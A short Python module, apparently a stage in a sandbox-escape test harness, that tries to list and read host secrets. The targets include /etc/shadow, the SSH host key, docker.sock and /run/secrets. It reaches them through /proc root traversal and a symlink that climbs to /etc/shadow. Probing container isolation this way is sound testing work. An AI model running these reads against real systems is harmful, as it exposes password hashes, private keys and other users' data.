"""Reads what belongs to the host and its users, by name, through /proc, and through links that climb."""

import os

from attack_stage import AIMS, attempt, attempts, read, shows

AT = "list"
FOLDERS = ("/root", "/home", "/var", "/sys", "/mnt", "/media", "/srv", "/boot", "/run/secrets", "/host", "/workspace")
FILES = ("/etc/shadow", "/etc/machine-id", "/etc/ssh/ssh_host_rsa_key", "/var/run/docker.sock", "/.dockerenv")


def link_that_climbs():
    os.symlink("../" * 20 + "etc/shadow", "/tmp/climb")
    try:
        return read("/tmp/climb")
    finally:
        os.unlink("/tmp/climb")


def attack():
    climbing = [f"{top}/../../../../root" for top in ("/proc/1/root", "/proc/self/root", "/proc/self/cwd", "/tmp")]
    return {
        **attempts(shows, *FOLDERS, *climbing),
        **attempts(read, *FILES, AIMS["secret"]),
        "working folder of the host": attempt(shows, AIMS["folder"]),
        "link that climbs": attempt(link_that_climbs),
    }
